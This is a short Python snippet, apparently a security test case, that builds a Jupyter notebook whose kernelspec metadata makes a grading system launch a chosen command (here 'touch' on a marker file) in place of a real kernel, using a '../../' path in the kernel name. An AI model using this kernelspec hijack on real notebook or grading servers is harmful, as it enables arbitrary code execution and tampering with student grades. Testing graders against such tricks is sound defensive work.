# aim: a command of his own as the kernel that runs the tests
# pays: crash
# weak: starts the kernel that the notebook names
import nbformat


def attack(folder, release, marker):
    release.metadata["kernelspec"] = {
        "name": f"../../{marker}",
        "display_name": marker,
        "language": "julia",
        "argv": ["touch", f"@GRADEBOOK@.{marker}"],
    }
    release.metadata["language_info"] = {"name": "julia", "file_extension": ".jl"}
    nbformat.write(release, folder / "seq2seq.ipynb")
